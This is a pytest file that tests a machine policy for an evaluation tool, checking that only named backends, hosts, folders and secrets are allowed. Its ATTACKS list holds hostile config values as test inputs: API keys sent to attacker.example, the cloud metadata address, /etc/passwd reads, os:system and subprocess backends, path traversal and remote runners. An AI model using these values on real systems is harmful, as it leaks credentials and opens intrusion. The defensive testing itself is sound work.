"""A machine's policy: what is not named in it is refused before anything is asked."""

import os
from pathlib import Path
from typing import Any

import pytest
import yaml

from flows.cli.benchmark_command import main as benchmark
from flows.cli.compare_command import main as compare
from flows.cli.evaluate_command import main as evaluate
from flows.cli.publish_command import main as publish
from flows.cli.rescore_command import main as rescore
from flows.common.errors import SpecError
from flows.planning.plan import Plan
from flows.policy.check import check_evaluation, check_suite, check_suite_file
from flows.policy.policy import Policy
from flows.specs.evaluation import EvaluationSpec
from flows.specs.suite import SuiteSpec, read_suite
from flows.storage.home import Home
from tests.support.paths import ROOT

SHIPPED = ROOT / "deployments" / "policy.yaml"


@pytest.fixture(autouse=True)
def _shipped(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The policy that `make worker` starts with, in a folder as the one that was deployed from."""
    for name in ("results", "data", "deployments"):
        (tmp_path / name).mkdir()
    (tmp_path / "deployments" / "suites").symlink_to(ROOT / "deployments" / "suites")
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("ASSAY_POLICY", str(SHIPPED))
    monkeypatch.setenv("ASSAY_HOME", str(tmp_path / "home"))
    monkeypatch.delenv("ASSAY_DATA_ROOT", raising=False)


def check(keys: dict[str, Any]) -> None:
    check_evaluation(EvaluationSpec.model_validate(keys), Home.from_environment())


SHOWN: list[dict[str, Any]] = [
    {},
    {"model": "hf:Qwen/Qwen3-0.6B", "tasks": ["gsm8k"], "limit": 100},
    {"model": "openai-chat:m?api_key=env:MY_KEY"},
    {"model": "openai-chat:m?api_key_env=MY_KEY"},
    {"model": "openai-chat:m?api_key=secret:openai"},
    {"model": 'openai-chat:m?headers={"x-api-key": "secret:gateway"}'},
    {
        "model": "openai-chat:m?base_url=http://10.0.0.9:8000/v1&max_concurrency=256",
        "runner": "dask:tcp://10.0.0.1:8786",
        "tasks": ["gsm8k"],
    },
    {"runner": "dask:local?workers=4"},
    {"runner": "ray:auto?workers=8"},
    {"runner": "ray:auto?gpus=1"},
    {"runner": "pool:gpu-pool?children=8"},
    {"output": "s3://bucket/evals", "store": "postgresql+psycopg://assay@10.0.0.2/answers"},
    {"model": "vllm:Qwen/Qwen3-8B"},
    {"output": "results/mine", "answers_from": "results/theirs/run"},
]


@pytest.mark.parametrize("keys", SHOWN)
def test_what_the_pages_show_is_allowed(keys: dict[str, Any]) -> None:
    check(keys)


def test_the_suite_that_is_deployed_is_allowed() -> None:
    file = Path("deployments/suites/nightly.yaml")
    check_suite(read_suite(file))


ATTACKS: list[tuple[str, dict[str, Any]]] = [
    ("trusted_code", {"model": "hf:anyone/model?trust_remote_code=true"}),
    ("trusted_code", {"trust_task_code": True, "include_path": "data/tasks"}),
    ("trusted_code", {"model": 'vllm-server:m?server_args={"trust-remote-code": true}'}),
    ("data", {"include_path": "/tmp"}),
    ("backends", {"model": "scripted:os:system"}),
    ("backends", {"model": "scripted:hash?log=/etc/passwd"}),
    ("backends", {"model": "scripted:/etc/passwd.json"}),
    ("backends", {"model": "custom:subprocess:Popen"}),
    ("backends", {"fallback": ["scripted:hash"]}),
    ("programs", {"model": "vllm-server:m?python=/usr/bin/touch"}),
    ("unsafe_code", {"allow_unsafe_code": True, "tasks": ["humaneval"]}),
    ("hosts", {"model": "openai-chat:m?base_url=http://attacker.example&api_key=env:MY_KEY"}),
    ("hosts", {"model": "openai-chat:m?base_url=http://169.254.169.254/latest"}),
    ("hosts", {"model": "openai-chat:m?base_url=http://localhost.attacker.example"}),
    ("key_hosts", {"model": "openai-chat:m?base_url=http://10.0.0.9:8000/v1&api_key=env:MY_KEY"}),
    (
        "key_hosts",
        {"model": 'openai-chat:m?base_url=http://10.0.0.9/v1&headers={"x-key": "env:MY_KEY"}'},
    ),
    ("variables", {"model": "openai-chat:m?api_key=env:AWS_SECRET_ACCESS_KEY"}),
    ("variables", {"model": "openai-chat:m?api_key_env=AWS_SECRET_ACCESS_KEY"}),
    ("variables", {"model": 'openai-chat:m?headers={"X-Aws": "env:AWS_SECRET_ACCESS_KEY"}'}),
    ("variables", {"store": "env:AWS_SECRET_ACCESS_KEY"}),
    ("secrets", {"model": "openai-chat:m?api_key=secret:other"}),
    ("data", {"model": "hf:/etc"}),
    ("data", {"model": "openai-completions:m?base_url=http://localhost:8000/v1&tokenizer=/etc"}),
    ("data", {"model": "hf:results/../../secret"}),
    ("output", {"output": "/tmp/elsewhere"}),
    ("output", {"output": "results/../elsewhere"}),
    ("output", {"output": "s3://other/evals"}),
    ("output", {"output": "s3://bucket/evals-of-others"}),
    ("output", {"output": "s3://bucket/evals/../x"}),
    ("output", {"shared_folder": "s3://other/x"}),
    ("sinks", {"sinks": ["tensorboard:/tmp/x"]}),
    ("store", {"store": "/tmp/other.sqlite"}),
    ("store", {"store": "sqlite:////tmp/other.sqlite"}),
    ("store", {"store": "postgresql+psycopg://assay@attacker.example/answers"}),
    ("data", {"data_root": "/etc"}),
    ("data", {"answers_from": "/tmp/theirs"}),
    ("data", {"tasks": ["/tmp/evil.yaml"]}),
    ("runners", {"runner": "dask:tcp://attacker.example:8786"}),
    ("runners", {"runner": "ray://attacker.example:10001"}),
]


@pytest.mark.parametrize(("key", "keys"), ATTACKS)
def test_what_no_page_shows_is_refused_with_the_file_and_the_key(key: str, keys: dict[str, Any]) -> None:
    with pytest.raises(SpecError) as caught:
        check(keys)
    assert str(caught.value).startswith(f"{SHIPPED}: {key}: the policy of this machine does not allow ")
    assert "\n" not in str(caught.value)


@pytest.mark.parametrize(("key", "keys"), ATTACKS)
def test_without_a_policy_all_of_it_is_allowed(
    key: str, keys: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("ASSAY_POLICY")
    check(keys)


def test_a_link_out_of_an_allowed_folder_is_followed(tmp_path: Path) -> None:
    Path("results/out").symlink_to("/tmp")
    with pytest.raises(SpecError, match="output: "):
        check({"output": "results/out/mine"})
    Path("data/in").symlink_to("/etc")
    with pytest.raises(SpecError, match="data: "):
        check({"data_root": "data/in"})


def test_a_worker_that_is_given_another_home_refuses_it(tmp_path: Path) -> None:
    with pytest.raises(SpecError, match=r"store: .* the home folder"):
        Plan.allowed(EvaluationSpec(), Home(Path("/tmp/home-of-another")))


def test_a_suite_is_held_against_it_with_all_it_names() -> None:
    with pytest.raises(SpecError, match="data: "):
        check_suite_file(Path("/etc/passwd"))
    suite = {"name": "n", "models": ["baseline:random"], "tasks": ["starter"]}
    for key, more in (
        ("hosts", {"webhook": "http://attacker.example/x"}),
        ("variables", {"webhook": "env:AWS_SECRET_ACCESS_KEY"}),
        ("output", {"output": "/tmp/x"}),
        ("backends", {"models": ["scripted:hash"]}),
        ("unsafe_code", {"defaults": {"allow_unsafe_code": True}}),
    ):
        with pytest.raises(SpecError, match=f"policy.yaml: {key}: "):
            check_suite(SuiteSpec.model_validate({**suite, **more}))


@pytest.mark.parametrize(
    "words",
    [
        (evaluate, ["--model=scripted:hash", "--tasks=starter_math"]),
        (evaluate, ["--model=scripted:hash", "--estimate"]),
        (evaluate, ["--check-tasks=starter_math", "--trust-task-code", "--include-path=data"]),
        (rescore, ["/tmp/a-run"]),
        (compare, ["results/a", "/tmp/b"]),
        (publish, ["/tmp/a-run", "--to", "tensorboard:results/x"]),
        (benchmark, ["--suite", "suite.yaml"]),
    ],
)
def test_commands_refuse_with_status_2(words: Any, capsys: pytest.CaptureFixture[str]) -> None:
    suite = {"name": "n", "models": ["scripted:hash"], "tasks": ["starter"]}
    Path("suite.yaml").write_text(yaml.safe_dump(suite))
    main, arguments = words
    assert main(arguments) == 2
    assert f"error: {SHIPPED}: " in capsys.readouterr().err


@pytest.mark.parametrize(
    "content",
    ["backends: [", "backend: [hf]", "backends: [hff]", "- hf", "", "unsafe_code: perhaps", None],
)
def test_a_policy_that_cannot_be_read_refuses_all(
    content: str | None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    file = tmp_path / "policy.yaml"
    if content is not None:
        file.write_text(content)
    monkeypatch.setenv("ASSAY_POLICY", str(file))
    with pytest.raises(SpecError, match=r"ASSAY_POLICY: .*: nothing runs while the policy cannot be read: "):
        check({})


def test_a_policy_may_allow_more(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    file = tmp_path / "policy.yaml"
    more = yaml.safe_load(SHIPPED.read_text())
    more |= {"trusted_code": True, "unsafe_code": True, "programs": ["/opt/*/bin/python"]}
    file.write_text(yaml.safe_dump(more))
    monkeypatch.setenv("ASSAY_POLICY", str(file))
    check({"trust_task_code": True, "include_path": "data", "allow_unsafe_code": True})
    check({"model": "vllm-server:Qwen/Qwen3-8B?python=/opt/vllm/bin/python"})
    assert set(yaml.safe_load(SHIPPED.read_text())) == set(Policy.model_fields)


def test_the_worker_of_the_makefile_starts_with_it() -> None:
    assert "ASSAY_POLICY=$(abspath $(POLICY))" in (ROOT / "Makefile").read_text()
    assert os.path.isfile(SHIPPED)
